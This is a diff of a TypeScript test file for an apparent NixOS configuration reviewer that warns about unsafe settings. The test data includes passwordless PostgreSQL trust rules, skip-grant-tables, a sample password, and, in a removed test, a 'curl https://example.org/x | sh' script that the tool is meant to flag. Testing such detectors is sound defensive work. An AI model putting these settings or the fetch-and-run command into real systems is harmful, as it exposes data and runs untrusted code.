@@ -30,7 +30,7 @@ const openings: readonly (readonly [string, string])[] = [
   [tcp, `${everywhere}: \`services.postgresql.enableTCPIP\``],
   [
     trust,
-    "lets other hosts use the database without a password: `services.postgresql.authentication` (`host q q samenet trust`)",
+    "lets other hosts use the database without a password (`host q q samenet trust`): `services.postgresql.authentication`",
   ],
   [bind, `${everywhere}: \`services.redis.servers.a.bind\``],
   [
@@ -42,36 +42,15 @@ const openings: readonly (readonly [string, string])[] = [
 describe("a setting that only containers had", () => {
   it.each(openings)("is warned of where hosts have it, too: %s", async (setting, message) => {
     const container = `${tcp} ${trust} ${setting === bind ? bind : anywhere} ${open}`;
-    expect(await told({ container }, { host: setting, container })).toEqual([`warning ${ofHost} ${message}`]);
+    expect(await told({ container }, { host: setting, container })).toEqual([
+      expect.stringContaining(`warning ${ofHost} ${message}`),
+    ]);
   });
 
   it.each(openings)("is warned of where it moves to hosts: %s", async (setting, message) => {
     const lines = await told({ container: setting }, { host: setting });
-    expect(lines).toContain(`warning ${ofHost} ${message}`);
+    expect(lines).toContainEqual(expect.stringContaining(`warning ${ofHost} ${message}`));
     expect(lines.filter((each) => !each.startsWith("notice"))).toHaveLength(1);
-  });
-
-  it("is a warning if it moves to hosts, also with a renamed resource", async () => {
-    const q = (config: string): string => `{ apps.q.services = {
-      components.q = { process.command = "/bin/q"; resources.db = { }; }; ${config}
-      runtimes = { hostos.enable = true; container.enable = true; }; }; }`;
-    const resource = `resources.db.hostosConfig = { ${postgresql} ${tcp} };`;
-    const container = q(`runtimes.container.${resource}`);
-    const host = q(`components.q.${resource}`);
-    expect(await reviewOf(container, host)).toContain(
-      `warning ${ofHost} ${everywhere}: \`services.postgresql.enableTCPIP\``,
-    );
-    expect(await reviewOf(container, host.replaceAll("resources.db", "resources.data"))).toContain(
-      `warning ${ofHost.replace("db", "data")} ${everywhere}: \`services.postgresql.enableTCPIP\``,
-    );
-  });
-
-  it("is the same with a renamed resource", async () => {
-    const container = `${tcp} ${trust}`;
-    expect(await told({ container }, { container, name: "data" })).toEqual([]);
-    expect(await told({ container }, { container: `${container} ${bind}`, name: "data" })).toEqual([
-      "notice apps.q: container configuration of `data` changed: `services.redis.servers.a.bind` (`0.0.0.0`)",
-    ]);
   });
 
   it("leaves no data on hosts if it is removed", async () => {
@@ -106,7 +85,7 @@ describe("a setting that only containers have", () => {
     [
       'services.postgresql.authentication = "host all all 0.0.0.0/0 trust";',
       "danger",
-      "lets every host that can reach it use the database without a password: `services.postgresql.authentication` (`host all all 0.0.0.0/0 trust`)",
+      "lets every host that can reach it use the database without a password (`host all all 0.0.0.0/0 trust`): `services.postgresql.authentication`",
     ],
     [
       "services.mysql.settings.mysqld.skip-grant-tables = true;",
@@ -116,15 +95,17 @@ describe("a setting that only containers have", () => {
     [
       'services.web.password = "hunter2hunter2";',
       "danger",
-      "has `services.web.password`; its value looks like a secret and would be public (hidden here)",
+      "has a value that looks like a secret and would be public (hidden here): `services.web.password`",
     ],
     [
       'nixpkgs.config.permittedInsecurePackages = [ "old-1" ];',
       "warning",
-      "lets Nix build packages that are known to be insecure: `nixpkgs.config.permittedInsecurePackages` (`old-1`)",
+      "lets Nix build packages that are known to be insecure: `nixpkgs.config.permittedInsecurePackages` (`old-1` added)",
     ],
   ])("has the same severity if it is not about the host: %s", async (setting, severity, message) => {
-    expect(await told({}, { container: setting })).toEqual([`${severity} ${ofContainers} ${message}`]);
+    expect(await told({}, { container: setting })).toEqual([
+      expect.stringContaining(`${severity} ${ofContainers} ${message}`),
+    ]);
     // Containers have had it from what is of both.
     expect((await told({ host: setting }, { container: setting })).map((each) => each.split(" ")[0])).toEqual(
       ["notice", "notice"],
@@ -138,16 +119,5 @@ describe("a setting that only containers have", () => {
     expect(await told(version(16), version(17))).toEqual([
       expect.stringContaining(`danger ${ofContainers} changes the version of PostgreSQL`),
     ]);
-  });
-
-  it("may download code", async () => {
-    const unit = 'systemd.services.a.script = "curl https://example.org/x | sh";';
-    const lines = await reviewOf(app({}), app({ container: unit }));
-    expect(lines).toContainEqual(
-      expect.stringMatching(
-        /^danger .*`systemd\.services\.a\.script` in container configuration of `db` downloads and runs code/,
-      ),
-    );
-    expect(lines.join("\n")).not.toContain("host-OS configuration");
   });
 });
